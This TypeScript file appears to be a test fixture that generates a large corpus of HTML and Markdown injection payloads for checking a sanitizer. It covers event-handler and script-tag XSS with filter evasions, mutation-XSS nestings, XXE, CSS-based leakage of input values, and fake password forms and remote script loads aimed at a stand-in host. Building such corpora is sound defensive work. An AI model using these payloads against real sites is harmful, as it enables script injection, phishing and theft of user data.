/**
 * Markup that would run something, fetch something or draw over something, were it put into a page as it is. Each payload
 * that runs sets `window.hit`; each that fetches asks the host `elsewhere.invalid`.
 */

/** What a payload does when it runs. */
export const RUN = 'window.hit=1';
const AWAY = 'https://elsewhere.invalid/';

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus autofocus x',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpointerenter',
  'onscrollsnapchange',
  'oncontentvisibilityautostatechange',
  'onbeforetoggle',
];

const BEARERS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'iframe src=x',
  'object data=x',
  'marquee',
  'style',
  'a href=x',
];

/** Every handler on every element that might fire it. */
const handled = HANDLERS.flatMap((handler, i) =>
  BEARERS.map((bearer, j) => {
    const quote = ['"', "'", ''][(i + j) % 3] ?? '';
    const [name = '', ...more] = handler.split(' ');
    return `<${bearer} ${more.join(' ')} ${name}=${quote}${RUN}${quote}>`;
  }),
);

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script\t>${RUN}</script >`,
  `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src="${AWAY}a.js"></script>`,
  `<script type="module">import "${AWAY}m.js"</script>`,
  `<script>//<![CDATA[\n${RUN}\n//]]></script>`,
  `<script\u0000>${RUN}</script>`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `＜script＞${RUN}＜/script＞`,
  `<<script>${RUN}//<</script>`,
  `</p></div><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `*/</style><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `{@html '<img src=x onerror=${RUN}>'}`,
  `\${${RUN}} {{constructor.constructor('${RUN}')()}} #{${RUN}} <%= ${RUN} %>`,
];

/** What a parser makes of it the second time is not what it made of it the first time. */
const mutating = [
  ['math', 'mtext', 'table', 'mglyph', 'style'],
  ['math', 'mtext', 'mglyph', 'style', '!--'],
  ['svg', 'foreignObject', 'p', 'style'],
  ['svg', 'desc', 'title', 'style'],
  ['form', 'math', 'mtext', 'form', 'mglyph', 'style'],
  ['table', 'caption', 'svg', 'title', 'table'],
  ['template', 'table', 'tr', 'td', 'svg'],
  ['select', 'template', 'style'],
  ['noembed', 'xmp'],
  ['textarea', 'title'],
  ['plaintext', 'listing'],
  ['frameset', 'noframes'],
  ['svg', 'p', 'style', '!--'],
  ['math', 'annotation-xml encoding="text/html"', 'style'],
  ['svg', 'style', 'g title="</style>'],
].flatMap((tags) => {
  const open = tags.map((tag) => `<${tag}>`).join('');
  const image = `<img src=x onerror=${RUN}>`;
  return [
    `${open}${image}`,
    `${open}</${tags.at(-1) ?? ''}>${image}`,
    `${open}<a title="</${tags[1] ?? ''}>${image}">`,
    `${open}&lt;/style&gt;${image.replaceAll('<', '&lt;')}`,
  ];
});

const drawing = [
  `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>`,
  `<svg><image href="${AWAY}i.png"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>press</text></a></svg>`,
  `<svg><set attributeName="href" to="javascript:${RUN}"/></svg>`,
  `<svg><filter><feImage href="${AWAY}f.png"/></filter></svg>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "${AWAY}">]><svg>&y;</svg>`,
  `<style>*{display:none!important}</style>`,
  `<style>@import "${AWAY}s.css";</style>`,
  `<link rel=stylesheet href="${AWAY}s.css">`,
  `<link rel=prefetch href="${AWAY}p">`,
  `<div style="position:fixed;inset:0;background:url(${AWAY}b.png)">covered</div>`,
  `<p style="width:expression(${RUN});-moz-binding:url(${AWAY}x.xml#x)">old</p>`,
  `<style>input[value^=a]{background:url(${AWAY}?a)}</style>`,
  `<font color=red size=700>big</font>`,
  `<base href="${AWAY}">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="${AWAY}e.swf">`,
  `<form action="${AWAY}"><input name=password><button>Log in again</button></form>`,
  `<button type="button" data-copy formaction="javascript:${RUN}">Copy</button>`,
  `<a href="${AWAY}" target=_top ping="${AWAY}ping">x</a>`,
  `<img src="${AWAY}1.png" srcset="${AWAY}2.png 2x" loading=eager>`,
  `<picture><source srcset="${AWAY}3.webp"><img src="${AWAY}3.png"></picture>`,
  `<video poster="${AWAY}v.png" src="${AWAY}v.mp4" autoplay>`,
  `<dialog open><form method=dialog>Your password<input type=password></form></dialog>`,
  `<div popover id=x>over</div><button popovertarget=x>press</button>`,
  `<div id=app></div><a id=parley></a><img name=getElementById><form id=location>`,
  `<p class="markdown" id="__proto__" data-more onclick=${RUN}>x</p>`,
  `<custom-element is="x" slot="y">z</custom-element>`,
];

/** Markup within what Markdown treats in a way of its own. */
const within = [`<img src=x onerror=${RUN}>`, `"><svg onload=${RUN}>`, `' onmouseover='${RUN}`].flatMap((payload) => [
  `**${payload}**`,
  `~~_${payload}_~~`,
  `# ${payload}`,
  `> ${payload}\n>> ${payload}`,
  `- [ ] ${payload}\n1. ${payload}`,
  `\`${payload}\``,
  `\`\`\`html\n${payload}\n\`\`\``,
  `\`\`\`${payload}\ncode\n\`\`\``,
  `\`\`\`js ${payload}\nlet a = "${payload}";\n\`\`\``,
  `    ${payload}`,
  `|${payload}|b|\n|-|-|\n|${payload}|\\|${payload}|`,
  `[${payload}](https://x.invalid)`,
  `[x](https://x.invalid "${payload}")`,
  `![${payload}](https://x.invalid/i.png "${payload}")`,
  `<https://x.invalid/${payload}>`,
  `https://x.invalid/${payload}`,
  `[x]: https://x.invalid "${payload}"\n[x]`,
  `[^1]: ${payload}\n\n[^1]`,
  `\\${payload}`,
  `@${payload} and @room${payload}`,
]);

export const markup: readonly string[] = [...scripts, ...handled, ...mutating, ...drawing, ...within];
